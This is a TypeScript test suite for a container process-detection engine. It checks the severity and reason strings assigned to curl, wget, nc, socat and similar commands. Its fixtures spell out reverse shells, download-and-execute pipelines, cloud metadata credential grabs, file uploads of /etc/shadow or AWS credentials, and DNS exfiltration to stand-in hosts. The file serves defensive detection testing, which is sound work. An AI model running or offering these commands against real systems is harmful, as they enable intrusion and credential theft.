import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { UTILITIES } from "../../src/detection/catalogue.js";
import { evaluate } from "../../src/detection/rule.js";
import type { ExecEvent, Severity } from "../../src/model.js";
import { findingOf, processEvent, run, session, withAncestors } from "./factory.js";

type Case = [label: string, event: ExecEvent, severity: Severity, reason: string];

/** Each case: the verdict is a finding of `severity` whose FIRST reason is exactly `reason`. */
function table(cases: Case[]) {
  it.each(cases)("%s", (_label, event, severity, reason) => {
    // Act
    const finding = findingOf(event);
    // Assess
    expect(finding.severity).toBe(severity);
    expect(finding.reasons[0]).toBe(reason);
  });
}

describe("evaluate: who is looked at", () => {
  it.each([
    ["a host process", processEvent({}, { inContainer: false })],
    ["a process the format cannot place", processEvent({}, { inContainer: "unknown" })],
  ])("%s is none/host-process", (_label, event) => {
    expect(evaluate(event)).toEqual({ kind: "none", why: "host-process" });
  });

  it.each([
    ["ncdu", run("/usr/bin/ncdu", "/")],
    ["nc-helper", run("/usr/local/bin/nc-helper", "-e", "/bin/sh")],
    ["curlftpfs", run("/usr/bin/curlftpfs", "ftp://x", "/mnt")],
    ["curl-config", run("/usr/bin/curl-config", "--libs")],
    ["a busybox applet that is not a utility", run("/bin/busybox", "ls", "-l")],
    ["busybox with no applet", run("/bin/busybox")],
    ["a shell (its payload is judged on the child's own event)", run("/bin/sh", "-c", "curl http://x | sh")],
    ["an exec session running ls", session("ls", "-la")],
    ["an exec session whose payload runs no utility", session("sh", "-c", "cat /etc/hosts; ls | wc -l")],
    ["an exec session checking for curl without running it", session("sh", "-c", "command -v curl")],
  ])("%s is none/not-a-utility", (_label, event) => {
    expect(evaluate(event)).toEqual({ kind: "none", why: "not-a-utility" });
  });

  it.each([
    ["path", processEvent({ name: "curl", path: "/usr/bin/curl" }), "curl"],
    ["name only", processEvent({ name: "wget", path: undefined }), "wget"],
    [
      "a renamed binary still called curl by the kernel",
      processEvent({ name: "curl", path: "/opt/bin/fetcher" }),
      "curl",
    ],
    ["busybox applet as first argument", run("/bin/busybox", "wget", "http://x/y"), "wget"],
    [
      "busybox applet through its symlink (comm is the applet)",
      processEvent({ name: "wget", path: "/bin/busybox", args: ["http://x/y"] }),
      "wget",
    ],
    ["toybox applet", run("/usr/bin/toybox", "nc", "10.0.0.1", "80"), "nc"],
    ["an unlinked binary", processEvent({ name: "nc", path: "/usr/bin/nc (deleted)", args: [] }), "nc"],
  ])("identifies the utility by %s", (_label, event, name) => {
    expect(findingOf(event).utility.name).toBe(name);
  });

  it("reports the event's own process for a process event", () => {
    const event = run("/bin/busybox", "wget", "http://x/y");
    expect(findingOf(event).process).toBe(event.process);
  });
});

describe("evaluate: severity and reasons", () => {
  describe("low", () => {
    it("says which utility ran and what it is, and nothing else", () => {
      expect(findingOf(run("/usr/bin/curl", "-s", "https://example.com/")).reasons).toEqual([
        "curl (download tool) ran in a container",
      ]);
    });

    table([
      ["dig", run("/usr/bin/dig", "example.com"), "low", "dig (DNS lookup tool) ran in a container"],
      [
        "a normal cluster name is not exfiltration",
        run("/usr/bin/dig", "+short", "myservice.prod.svc.cluster.local"),
        "low",
        "dig (DNS lookup tool) ran in a container",
      ],
      [
        "an ELB name is not exfiltration",
        run(
          "/usr/bin/curl",
          "http://a8f3d4e2b1c94f0a9b8c7d6e5f4a3b2c-1234567890.us-east-1.elb.amazonaws.com/",
        ),
        "low",
        "curl (download tool) ran in a container",
      ],
      [
        "nmap",
        run("/usr/bin/nmap", "-sS", "10.0.0.0/24"),
        "low",
        "nmap (network scanner) ran in a container",
      ],
      [
        "tcpdump",
        run("/usr/sbin/tcpdump", "-i", "eth0", "port", "53"),
        "low",
        "tcpdump (packet sniffer) ran in a container",
      ],
      [
        "rsync locally",
        run("/usr/bin/rsync", "-a", "/a/", "/b/"),
        "low",
        "rsync (remote copy tool) ran in a container",
      ],
      [
        "a listening nc",
        run("/bin/nc", "-lvnp", "4444"),
        "low",
        "nc (network relay tool) ran in a container",
      ],
      [
        "nc -lvpe: the p takes 'e' as its port",
        run("/bin/nc", "-lvpe", "4444"),
        "low",
        "nc (network relay tool) ran in a container",
      ],
      [
        "curl to stdout",
        run("/usr/bin/curl", "-o", "-", "http://x/a"),
        "low",
        "curl (download tool) ran in a container",
      ],
      [
        "wget to stdout",
        run("/usr/bin/wget", "-qO-", "http://x/a"),
        "low",
        "wget (download tool) ran in a container",
      ],
      [
        "curl with --data-raw @ (not a file)",
        run("/usr/bin/curl", "--data-raw", "@notafile", "http://x"),
        "low",
        "curl (download tool) ran in a container",
      ],
      [
        "an exec session",
        session("curl", "https://example.com"),
        "low",
        "curl (download tool) ran in a container through an exec session",
      ],
    ]);
  });

  describe("medium: the utility or an ancestor runs from a writable or suspicious place", () => {
    table([
      [
        "the utility in /tmp",
        run("/tmp/curl", "https://x"),
        "medium",
        "the utility /tmp/curl runs from a writable location (/tmp)",
      ],
      [
        "the utility resolved against its cwd",
        processEvent({ name: "curl", path: "./curl", cwd: "/dev/shm", args: [] }),
        "medium",
        "the utility ./curl runs from a writable location (/dev/shm)",
      ],
      [
        "the parent in a hidden directory under /tmp",
        withAncestors(run("/usr/bin/curl", "https://x"), [{ path: "/tmp/.x/loader" }]),
        "medium",
        "parent /tmp/.x/loader runs from a writable location (/tmp)",
      ],
      [
        "an ancestor in /var/tmp",
        withAncestors(run("/usr/bin/curl", "https://x"), [{ path: "/bin/sh" }, { path: "/var/tmp/kinsing" }]),
        "medium",
        "ancestor /var/tmp/kinsing runs from a writable location (/var/tmp)",
      ],
      [
        "an ancestor in /dev/shm",
        withAncestors(run("/usr/bin/wget", "http://x"), [
          { path: "/bin/sh" },
          { path: "/bin/sh" },
          { path: "/dev/shm/x" },
        ]),
        "medium",
        "ancestor /dev/shm/x runs from a writable location (/dev/shm)",
      ],
      [
        "the parent in /home",
        withAncestors(run("/usr/bin/curl", "https://x"), [{ path: "/home/app/.local/bin/agent" }]),
        "medium",
        "parent /home/app/.local/bin/agent runs from a writable location (/home)",
      ],
      [
        "the parent in /root",
        withAncestors(run("/usr/bin/curl", "https://x"), [{ path: "/root/x" }]),
        "medium",
        "parent /root/x runs from a writable location (/root)",
      ],
      [
        "the parent in /run/user",
        withAncestors(run("/usr/bin/curl", "https://x"), [{ path: "/run/user/1000/x" }]),
        "medium",
        "parent /run/user/1000/x runs from a writable location (/run/user)",
      ],
      [
        "the parent in /run",
        withAncestors(run("/usr/bin/curl", "https://x"), [{ path: "/run/x" }]),
        "medium",
        "parent /run/x runs from a writable location (/run)",
      ],
      [
        "the parent in /var/run",
        withAncestors(run("/usr/bin/curl", "https://x"), [{ path: "/var/run/x" }]),
        "medium",
        "parent /var/run/x runs from a writable location (/var/run)",
      ],
      [
        "the parent from memfd",
        withAncestors(run("/usr/bin/curl", "https://x"), [{ path: "/memfd:payload (deleted)" }]),
        "medium",
        "parent /memfd:payload (deleted) runs from an anonymous memory file (memfd)",
      ],
      [
        "the parent deleted",
        withAncestors(run("/usr/bin/curl", "https://x"), [{ path: "/usr/local/bin/agent (deleted)" }]),
        "medium",
        "parent /usr/local/bin/agent (deleted) runs from a deleted file",
      ],
      [
        "the parent from a file descriptor",
        withAncestors(run("/usr/bin/curl", "https://x"), [{ path: "/proc/self/fd/3" }]),
        "medium",
        "parent /proc/self/fd/3 runs from a file descriptor (fileless execution)",
      ],
      [
        "the parent in a hidden directory",
        withAncestors(run("/usr/bin/curl", "https://x"), [{ path: "/opt/.cache/loader" }]),
        "medium",
        "parent /opt/.cache/loader runs from a hidden path (.cache)",
      ],
      [
        "the utility itself run from memory under its own name (Falco: exepath /memfd:…, comm the fd)",
        processEvent({ name: "3", path: "/memfd:curl (deleted)", args: ["http://x"] }),
        "medium",
        "the utility /memfd:curl (deleted) runs from an anonymous memory file (memfd)",
      ],
      [
        "the parent known only by a memfd name",
        withAncestors(run("/usr/bin/curl", "https://x"), [{ name: "memfd:x" }]),
        "medium",
        "parent memfd:x runs from an anonymous memory file (memfd)",
      ],
      [
        "/proc/self/root cannot hide /tmp",
        withAncestors(run("/usr/bin/curl", "https://x"), [{ path: "/proc/self/root/tmp/x" }]),
        "medium",
        "parent /proc/self/root/tmp/x runs from a writable location (/tmp)",
      ],
      [
        "the parent in /var/lock (/run/lock)",
        withAncestors(run("/usr/bin/curl", "https://x"), [{ path: "/var/lock/x" }]),
        "medium",
        "parent /var/lock/x runs from a writable location (/var/lock)",
      ],
      [
        "the parent in /dev/mqueue",
        withAncestors(run("/usr/bin/curl", "https://x"), [{ path: "/dev/mqueue/x" }]),
        "medium",
        "parent /dev/mqueue/x runs from a writable location (/dev/mqueue)",
      ],
      [
        "a dot-dot path cannot hide /tmp",
        withAncestors(run("/usr/bin/curl", "https://x"), [{ path: "/usr/../tmp/x" }]),
        "medium",
        "parent /usr/../tmp/x runs from a writable location (/tmp)",
      ],
    ]);

    it.each([
      ["a project's Python virtual environment", "/app/.venv/bin/python"],
      ["npm's node_modules/.bin", "/srv/web/node_modules/.bin/run-p"],
    ])("does not take %s for a hidden place", (_label, path) => {
      expect(findingOf(withAncestors(run("/usr/bin/curl", "https://x"), [{ path }])).severity).toBe("low");
    });

    it.each([
      ["a .venv under /tmp", "/tmp/.venv/bin/x", "medium"],
      ["a .bin outside node_modules", "/opt/.bin/x", "medium"],
    ])("still counts %s", (_label, path, severity) => {
      expect(findingOf(withAncestors(run("/usr/bin/curl", "https://x"), [{ path }])).severity).toBe(severity);
    });

    it("lists every suspicious ancestor, nearest first", () => {
      const finding = findingOf(
        withAncestors(run("/tmp/nc", "10.0.0.1", "80"), [
          { path: "/tmp/a" },
          { path: "/bin/sh" },
          { path: "/dev/shm/b" },
        ]),
      );
      expect(finding.reasons).toEqual([
        "the utility /tmp/nc runs from a writable location (/tmp)",
        "parent /tmp/a runs from a writable location (/tmp)",
        "ancestor /dev/shm/b runs from a writable location (/dev/shm)",
        "nc (network relay tool) ran in a container",
      ]);
    });
  });

  describe("high: credential endpoints", () => {
    table([
      [
        "IMDS",
        run("/usr/bin/curl", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
        "high",
        "curl reaches a cloud credential endpoint: 169.254.169.254 (EC2 instance metadata service)",
      ],
      [
        "IMDS token with a port",
        run("/usr/bin/curl", "-X", "PUT", "http://169.254.169.254:80/latest/api/token"),
        "high",
        "curl reaches a cloud credential endpoint: 169.254.169.254 (EC2 instance metadata service)",
      ],
      [
        "ECS task credentials",
        run("/usr/bin/wget", "-qO-", "http://169.254.170.2/v2/credentials/1f2e"),
        "high",
        "wget reaches a cloud credential endpoint: 169.254.170.2 (ECS task credentials endpoint)",
      ],
      [
        "EKS Pod Identity",
        run("/usr/bin/curl", "http://169.254.170.23/v1/credentials"),
        "high",
        "curl reaches a cloud credential endpoint: 169.254.170.23 (EKS Pod Identity agent)",
      ],
      [
        "IMDS over IPv6 in brackets",
        run("/usr/bin/curl", "http://[fd00:ec2::254]/latest/meta-data/"),
        "high",
        "curl reaches a cloud credential endpoint: fd00:ec2::254 (EC2 instance metadata service over IPv6)",
      ],
      [
        "IMDS as a decimal number",
        run("/usr/bin/curl", "http://2852039166/latest/"),
        "high",
        "curl reaches a cloud credential endpoint: 2852039166 = 169.254.169.254 (EC2 instance metadata service)",
      ],
      [
        "IMDS in hex",
        run("/usr/bin/curl", "0xa9fea9fe/latest/"),
        "high",
        "curl reaches a cloud credential endpoint: 0xa9fea9fe = 169.254.169.254 (EC2 instance metadata service)",
      ],
      [
        "IMDS through nc",
        run("/bin/nc", "169.254.169.254", "80"),
        "high",
        "nc reaches a cloud credential endpoint: 169.254.169.254 (EC2 instance metadata service)",
      ],
      [
        "IMDS through socat",
        run("/usr/bin/socat", "-", "TCP:169.254.169.254:80"),
        "high",
        "socat reaches a cloud credential endpoint: 169.254.169.254 (EC2 instance metadata service)",
      ],
      [
        "IMDS through a curl --resolve trick",
        run("/usr/bin/curl", "--resolve", "localhost:80:169.254.169.254", "http://localhost/latest/"),
        "high",
        "curl reaches a cloud credential endpoint: 169.254.169.254 (EC2 instance metadata service)",
      ],
    ]);
  });

  describe("high: DNS names that look like exfiltration", () => {
    table([
      [
        "dig, long hex label",
        run(
          "/usr/bin/dig",
          "+short",
          "TXT",
          "6c6f67696e3a61646d696e3b70617373776f72643a68756e74657232.q.exfil-cdn.net",
        ),
        "high",
        "dig queries a name that looks like DNS exfiltration (label of 56 characters): 6c6f67696e3a61646d696e3b70617373776f72643a68756e74657232.q.exfil-cdn.net",
      ],
      [
        "nslookup, base32 label",
        run("/usr/bin/nslookup", "-type=txt", "mfrggzdfmztwq2lknnwg23tpobyxe43u.evil.example"),
        "high",
        "nslookup queries a name that looks like DNS exfiltration (base32-looking label): mfrggzdfmztwq2lknnwg23tpobyxe43u.evil.example",
      ],
      [
        "host, hex label",
        run("/usr/bin/host", "-t", "A", "deadbeefcafe0123456789abcdef.t.evil.example"),
        "high",
        "host queries a name that looks like DNS exfiltration (hex-encoded label): deadbeefcafe0123456789abcdef.t.evil.example",
      ],
      [
        "dig -q",
        run("/usr/bin/dig", "-q", "SGVsbG8gV29ybGQhIFNlY3JldHM.evil.example"),
        "high",
        "dig queries a name that looks like DNS exfiltration (base64-looking label): SGVsbG8gV29ybGQhIFNlY3JldHM.evil.example",
      ],
      [
        "curl to an encoded host",
        run("/usr/bin/curl", "https://4a6f686e20446f652c2031323320456c6d205374726565742c.evil.example/"),
        "high",
        "curl contacts a host whose name looks like DNS exfiltration (label of 50 characters): 4a6f686e20446f652c2031323320456c6d205374726565742c.evil.example",
      ],
    ]);
  });

  describe("high: names and data made of command output (exec sessions)", () => {
    table([
      [
        "dig of a label made by base64",
        session("sh", "-c", "dig $(cat /etc/hostname | base64).evil.example"),
        "high",
        "dig queries a name that looks like DNS exfiltration (a label built from command output): $(cat /etc/hostname | base64).evil.example",
      ],
      [
        "curl to a host made of command output",
        session("sh", "-c", "curl -s http://`whoami`.evil.example/"),
        "high",
        "curl contacts a host whose name looks like DNS exfiltration (a label built from command output): `whoami`.evil.example",
      ],
      [
        "curl -d with a file read by a substitution",
        session("sh", "-c", 'curl -d "$(cat /root/.aws/credentials)" https://x/'),
        "high",
        "curl uploads command output (-d $(cat /root/.aws/credentials))",
      ],
      [
        "wget with the environment in its URL",
        session("sh", "-c", 'wget -qO- "https://x/?d=$(env | base64 -w0)"'),
        "high",
        "wget sends command output in its URL (https://x/?d=$(env | base64 -w0))",
      ],
      [
        "wget -e post_file (a .wgetrc command)",
        run("/usr/bin/wget", "-e", "post_file=/etc/passwd", "http://x/"),
        "high",
        "wget uploads a file (-e post_file=/etc/passwd)",
      ],
    ]);

    it.each([
      ["a lookup of the pod's own name", "dig $(hostname -f)"],
      ["an in-cluster name", "nslookup $(hostname).web.default.svc.cluster.local"],
      ["a timestamp in the data", 'curl -d "ts=$(date +%s)" https://x/'],
      [
        "the service-account token in a header to the API server",
        'curl -H "Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" https://kubernetes.default.svc/api',
      ],
    ])("does not count %s", (_label, script) => {
      expect(findingOf(session("sh", "-c", script)).severity).toBe("low");
    });
  });

  describe("high: uploads", () => {
    table([
      [
        "curl -T",
        run("/usr/bin/curl", "-T", "/etc/passwd", "ftp://x/"),
        "high",
        "curl uploads a file (-T /etc/passwd)",
      ],
      [
        "curl --upload-file",
        run("/usr/bin/curl", "--upload-file", "db.sql", "https://x/"),
        "high",
        "curl uploads a file (--upload-file db.sql)",
      ],
      [
        "curl -d @file",
        run("/usr/bin/curl", "-d", "@/root/.aws/credentials", "https://x/"),
        "high",
        "curl uploads a file (-d @/root/.aws/credentials)",
      ],
      [
        "curl attached -d@file",
        run("/usr/bin/curl", "-sd@/etc/shadow", "https://x/"),
        "high",
        "curl uploads a file (-d@/etc/shadow)",
      ],
      [
        "curl --data-binary @file",
        run("/usr/bin/curl", "--data-binary", "@dump.tgz", "https://x/"),
        "high",
        "curl uploads a file (--data-binary @dump.tgz)",
      ],
      [
        "curl --data-urlencode name@file",
        run("/usr/bin/curl", "--data-urlencode", "q@/etc/hosts", "https://x/"),
        "high",
        "curl uploads a file (--data-urlencode q@/etc/hosts)",
      ],
      [
        "curl -d @- (stdin)",
        run("/usr/bin/curl", "-d", "@-", "https://x/"),
        "high",
        "curl uploads its standard input (-d @-)",
      ],
      [
        "curl -F name=@file",
        run("/usr/bin/curl", "-F", "f=@/etc/shadow", "https://x/u"),
        "high",
        "curl uploads a file (-F f=@/etc/shadow)",
      ],
      [
        "curl --form name=<file",
        run("/usr/bin/curl", "--form", "f=</etc/shadow", "https://x/u"),
        "high",
        "curl uploads a file (--form f=</etc/shadow)",
      ],
      [
        "wget --post-file=",
        run("/usr/bin/wget", "--post-file=/etc/passwd", "http://x/"),
        "high",
        "wget uploads a file (--post-file=/etc/passwd)",
      ],
      [
        "wget --body-file",
        run("/usr/bin/wget", "--method=PUT", "--body-file", "/etc/passwd", "http://x/"),
        "high",
        "wget uploads a file (--body-file /etc/passwd)",
      ],
      [
        "busybox wget --post-file",
        run("/bin/busybox", "wget", "--post-file", "/etc/passwd", "http://x/"),
        "high",
        "wget uploads a file (--post-file /etc/passwd)",
      ],
      [
        "scp local to remote",
        run("/usr/bin/scp", "-P", "2222", "/var/lib/db.sqlite", "u@203.0.113.9:/tmp/"),
        "high",
        "scp copies local files to a remote host (u@203.0.113.9:/tmp/)",
      ],
      [
        "rsync local to remote",
        run("/usr/bin/rsync", "-az", "--exclude", "*.log", "/data/", "203.0.113.9::loot"),
        "high",
        "rsync copies local files to a remote host (203.0.113.9::loot)",
      ],
      [
        "ftpput",
        run("/bin/busybox", "ftpput", "203.0.113.9", "loot.tgz", "/tmp/loot.tgz"),
        "high",
        "ftpput uploads a file (loot.tgz /tmp/loot.tgz)",
      ],
      [
        "nc fed a file in a session",
        session("sh", "-c", "nc 203.0.113.9 4444 < /etc/passwd"),
        "high",
        "nc sends a file (< /etc/passwd)",
      ],
      [
        "a file piped into nc",
        session("sh", "-c", "cat /etc/passwd | nc 203.0.113.9 4444"),
        "high",
        "nc sends a file (cat /etc/passwd | nc)",
      ],
      [
        "an archive piped through base64 into nc",
        session("sh", "-c", "tar czf - /root | base64 -w0 | nc 203.0.113.9 4444"),
        "high",
        "nc sends a file (tar czf - /root | nc)",
      ],
      [
        "parent: a file piped into this very nc",
        withAncestors(run("/bin/nc", "203.0.113.9", "4444"), [
          { path: "/bin/sh", args: ["-c", "cat /etc/shadow | nc 203.0.113.9 4444"] },
        ]),
        "high",
        "nc sends a file (cat /etc/shadow | nc)",
      ],
      [
        "parent: nc fed a file",
        withAncestors(run("/bin/nc", "203.0.113.9", "4444"), [
          { path: "/bin/sh", args: ["-c", "nc 203.0.113.9 4444 < /etc/shadow"] },
        ]),
        "high",
        "nc sends a file (< /etc/shadow)",
      ],
    ]);

    it.each([
      ["text typed for the service", "printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc example.com 80"],
      ["a script's output", "sh /app/report.sh | nc 10.0.0.5 9000"],
    ])("does not count %s piped into nc as a file", (_label, script) => {
      expect(findingOf(session("sh", "-c", script)).severity).toBe("low");
    });
  });

  describe("high: downloads into writable places", () => {
    table([
      [
        "curl -o /tmp",
        run("/usr/bin/curl", "-fsSLo", "/tmp/kdevtmpfsi", "http://x/k"),
        "high",
        "curl downloads into a writable location (/tmp): /tmp/kdevtmpfsi",
      ],
      [
        "curl --output /dev/shm",
        run("/usr/bin/curl", "--output", "/dev/shm/.x", "http://x/k"),
        "high",
        "curl downloads into a writable location (/dev/shm): /dev/shm/.x",
      ],
      [
        "curl -O with cwd /tmp",
        processEvent({ name: "curl", path: "/usr/bin/curl", cwd: "/tmp", args: ["-O", "http://x/a/xmrig"] }),
        "high",
        "curl downloads into a writable location (/tmp): /tmp/xmrig",
      ],
      [
        "curl -O --output-dir",
        run("/usr/bin/curl", "-O", "--output-dir", "/var/tmp", "http://x/a"),
        "high",
        "curl downloads into a writable location (/var/tmp): /var/tmp/a",
      ],
      [
        "curl relative -o resolved against cwd",
        processEvent({ name: "curl", path: "/usr/bin/curl", cwd: "/root", args: ["-o", "x", "http://x/a"] }),
        "high",
        "curl downloads into a writable location (/root): /root/x",
      ],
      [
        "curl -o into a hidden directory",
        run("/usr/bin/curl", "-o", "/opt/.cache/x", "http://x/a"),
        "high",
        "curl downloads into a hidden path (.cache): /opt/.cache/x",
      ],
      [
        "wget -O",
        run("/usr/bin/wget", "-O", "/tmp/x.sh", "http://x/a"),
        "high",
        "wget downloads into a writable location (/tmp): /tmp/x.sh",
      ],
      [
        "wget --output-document=",
        run("/usr/bin/wget", "--output-document=/tmp/x", "http://x/a"),
        "high",
        "wget downloads into a writable location (/tmp): /tmp/x",
      ],
      [
        "wget -P",
        run("/usr/bin/wget", "-P", "/var/tmp", "http://x/"),
        "high",
        "wget downloads into a writable location (/var/tmp): /var/tmp (-P /var/tmp)",
      ],
      [
        "wget into its cwd /tmp",
        processEvent({ name: "wget", path: "/usr/bin/wget", cwd: "/tmp", args: ["http://x/a.sh"] }),
        "high",
        "wget downloads into a writable location (/tmp): /tmp/a.sh",
      ],
      [
        "wget into ~",
        run("/usr/bin/wget", "-O", "~/x", "http://x/a"),
        "high",
        "wget downloads into a writable location (home directory): ~/x",
      ],
      [
        "busybox wget -O /dev/shm",
        run("/bin/busybox", "wget", "http://x/y", "-O", "/dev/shm/y"),
        "high",
        "wget downloads into a writable location (/dev/shm): /dev/shm/y",
      ],
      [
        "scp remote to /tmp",
        run("/usr/bin/scp", "u@203.0.113.9:/srv/tool", "/tmp/tool"),
        "high",
        "scp downloads into a writable location (/tmp): /tmp/tool",
      ],
      [
        "aria2c -d",
        run("/usr/bin/aria2c", "-d", "/tmp", "http://x/a"),
        "high",
        "aria2c downloads into a writable location (/tmp): /tmp (-d)",
      ],
      [
        "a shell redirection in a session",
        session("sh", "-c", "curl -s http://x/a > /tmp/a"),
        "high",
        "curl downloads into a writable location (/tmp): /tmp/a",
      ],
      [
        "tee in a session",
        session("sh", "-c", "wget -qO- http://x/a | tee /dev/shm/a"),
        "high",
        "wget downloads into a writable location (/dev/shm): /dev/shm/a",
      ],
      [
        "after cd in a session",
        session("sh", "-c", "cd /tmp && wget http://x/b"),
        "high",
        "wget downloads into a writable location (/tmp): /tmp/b",
      ],
      [
        "unpacked by tar -C",
        session("sh", "-c", "curl -sL http://x/a.tgz | tar xz -C /dev/shm"),
        "high",
        "curl downloads into a writable location (/dev/shm): /dev/shm (| tar xz -C /dev/shm)",
      ],
      [
        "unpacked by tar after cd",
        session("sh", "-c", "cd /tmp && wget -qO- http://x/a.tgz | tar -xzf -"),
        "high",
        "wget downloads into a writable location (/tmp): /tmp (| tar -xzf -)",
      ],
      [
        "decoded into a file down the pipeline",
        session("sh", "-c", "curl -s http://x/a | base64 -d > /tmp/a"),
        "high",
        "curl downloads into a writable location (/tmp): /tmp/a",
      ],
      [
        "written by dd down the pipeline",
        session("sh", "-c", "curl -s http://x/a | dd of=/var/tmp/a"),
        "high",
        "curl downloads into a writable location (/var/tmp): /var/tmp/a",
      ],
      [
        "parent: a redirection of this very curl",
        withAncestors(run("/usr/bin/curl", "-s", "http://x/a"), [
          { path: "/bin/sh", args: ["-c", "curl -s http://x/a > /tmp/a"] },
        ]),
        "high",
        "curl downloads into a writable location (/tmp): /tmp/a",
      ],
    ]);

    it.each([
      ["tar into an image directory", "curl -sL http://x/a.tgz | tar xz -C /opt"],
      ["a filter into an image directory", "curl -s http://x/a | jq . > /app/out.json"],
      ["tar listing an archive", "curl -sL http://x/a.tgz | tar tz"],
    ])("does not count %s", (_label, script) => {
      expect(findingOf(session("sh", "-c", script)).severity).toBe("low");
    });

    it("does not take a sibling's redirection for the process's own", () => {
      const event = withAncestors(run("/usr/bin/curl", "-s", "http://x/b"), [
        { path: "/bin/sh", args: ["-c", "curl -s http://x/a > /tmp/a; curl -s http://x/b"] },
      ]);
      expect(findingOf(event).severity).toBe("low");
    });
  });

  describe("critical: the utility executes a command or shell", () => {
    table([
      [
        "nc -e",
        run("/bin/nc", "-e", "/bin/sh", "203.0.113.9", "4444"),
        "critical",
        "nc executes a command or shell (-e /bin/sh)",
      ],
      [
        "nc -lvnp … -e",
        run("/bin/nc", "-lvnp", "4444", "-e", "/bin/bash"),
        "critical",
        "nc executes a command or shell (-e /bin/bash)",
      ],
      [
        "nc -lve cluster",
        run("/bin/nc", "-lve", "/bin/sh", "-p", "4444"),
        "critical",
        "nc executes a command or shell (-e /bin/sh)",
      ],
      [
        "nc -e attached",
        run("/bin/nc", "-e/bin/sh", "203.0.113.9", "4444"),
        "critical",
        "nc executes a command or shell (-e/bin/sh)",
      ],
      [
        "nc.traditional -c",
        run("/bin/nc.traditional", "-c", "bash -i", "203.0.113.9", "4444"),
        "critical",
        "nc.traditional executes a command or shell (-c bash -i)",
      ],
      [
        "netcat -e",
        run("/usr/bin/netcat", "203.0.113.9", "4444", "-e", "/bin/sh"),
        "critical",
        "netcat executes a command or shell (-e /bin/sh)",
      ],
      [
        "ncat --sh-exec",
        run("/usr/bin/ncat", "--sh-exec", "bash -i", "203.0.113.9", "4444"),
        "critical",
        "ncat executes a command or shell (--sh-exec bash -i)",
      ],
      [
        "ncat --exec=",
        run("/usr/bin/ncat", "--exec=/bin/sh", "-l", "4444"),
        "critical",
        "ncat executes a command or shell (--exec=/bin/sh)",
      ],
      [
        "ncat --lua-exec",
        run("/usr/bin/ncat", "--lua-exec", "x.lua", "-l", "4444"),
        "critical",
        "ncat executes a command or shell (--lua-exec x.lua)",
      ],
      [
        "busybox nc -e",
        run("/bin/busybox", "nc", "203.0.113.9", "4444", "-e", "sh"),
        "critical",
        "nc executes a command or shell (-e sh)",
      ],
      [
        "socat EXEC:",
        run("/usr/bin/socat", "TCP:203.0.113.9:4444", "EXEC:/bin/bash"),
        "critical",
        "socat executes a command or shell (EXEC:/bin/bash)",
      ],
      [
        "socat exec: with options, lower case",
        run("/usr/bin/socat", "tcp-listen:4444,fork", "exec:'bash -li',pty,stderr"),
        "critical",
        "socat executes a command or shell (exec:'bash -li',pty,stderr)",
      ],
      [
        "socat SYSTEM:",
        run("/usr/bin/socat", "TCP:203.0.113.9:4444", "system:id"),
        "critical",
        "socat executes a command or shell (system:id)",
      ],
      [
        "socat SHELL:",
        run("/usr/bin/socat", "TCP:203.0.113.9:4444", "SHELL:sh"),
        "critical",
        "socat executes a command or shell (SHELL:sh)",
      ],
      [
        "tcpdump -z",
        run("/usr/sbin/tcpdump", "-G", "1", "-w", "/dev/null", "-z", "/tmp/x"),
        "critical",
        "tcpdump executes a command or shell (-z /tmp/x)",
      ],
      [
        "rsync -e with a shell",
        run("/usr/bin/rsync", "-e", "sh -c 'sh 0<&2 1>&2'", "127.0.0.1:/dev/null"),
        "critical",
        "rsync executes a command or shell (-e sh -c 'sh 0<&2 1>&2')",
      ],
    ]);

    it.each([
      [
        "a session",
        session(
          "sh",
          "-c",
          "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f",
        ),
      ],
      [
        "the parent (Tetragon, Falco, Datadog)",
        withAncestors(run("/bin/nc", "203.0.113.9", "4444"), [
          {
            path: "/bin/sh",
            args: [
              "-c",
              "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f",
            ],
          },
        ]),
      ],
      [
        "a shell reading a fifo",
        session("bash", "-c", "/bin/sh -i < /tmp/s 2>&1 | nc 203.0.113.9 4444 > /tmp/s"),
      ],
      ["telnet", session("sh", "-c", "bash -i 2>&1 | telnet 203.0.113.9 4444")],
    ])("counts a shell session relayed by the utility in %s (mkfifo reverse shell)", (_label, event) => {
      // Act
      const finding = findingOf(event);
      // Assess
      expect(finding.severity).toBe("critical");
      expect(finding.reasons[0]).toMatch(
        /^(?:nc|telnet) relays an interactive shell \((?:\/bin\/sh|bash) -i \| (?:nc|telnet)\)$/,
      );
    });

    it("says a relay writes what it receives, not that it downloads", () => {
      const finding = findingOf(session("sh", "-c", "nc -l -p 4444 > /tmp/x"));
      expect(finding.reasons[0]).toBe("nc writes what it receives into a writable location (/tmp): /tmp/x");
    });

    it("does not count rsync -e ssh", () => {
      expect(findingOf(run("/usr/bin/rsync", "-e", "ssh -p 2222", "/a", "h:/b")).severity).toBe("high");
    });
  });

  describe("critical: a download piped to a shell or interpreter", () => {
    table([
      [
        "session: wget -O- | sh after cd",
        session("sh", "-c", "cd /tmp; wget http://x/a -O- | sh"),
        "critical",
        "wget download is piped to a shell (sh)",
      ],
      [
        'session: bash -c "$(curl …)"',
        session("bash", "-c", "$(curl -fsSL http://evil/x)"),
        "critical",
        "curl download is executed as a command through command substitution",
      ],
      [
        "session: sh -c 'sh -c \"$(wget …)\"'",
        session("sh", "-c", 'sh -c "$(wget -qO- http://evil/x)"'),
        "critical",
        "wget download is executed by sh through command substitution",
      ],
      [
        "session: bash <(curl …)",
        session("bash", "-c", "bash <(curl -s http://evil/x)"),
        "critical",
        "curl download is executed by bash through process substitution",
      ],
      [
        "session: source <(curl …)",
        session("bash", "-c", "source <(curl -s http://evil/x)"),
        "critical",
        "curl download is executed by source through process substitution",
      ],
      [
        'session: eval "$(curl …)"',
        session("sh", "-c", 'eval "$(curl -s http://evil/x)"'),
        "critical",
        "curl download is executed by eval through command substitution",
      ],
      [
        "session: curl | python3",
        session("sh", "-c", "curl -s http://evil/x.py | python3 -"),
        "critical",
        "curl download is piped to an interpreter (python3)",
      ],
      [
        "session: curl | python3 reading its program from stdin",
        session("sh", "-c", "curl -s http://evil/x.py | python3 -u"),
        "critical",
        "curl download is piped to an interpreter (python3)",
      ],
      [
        "session: curl | python3 /dev/stdin",
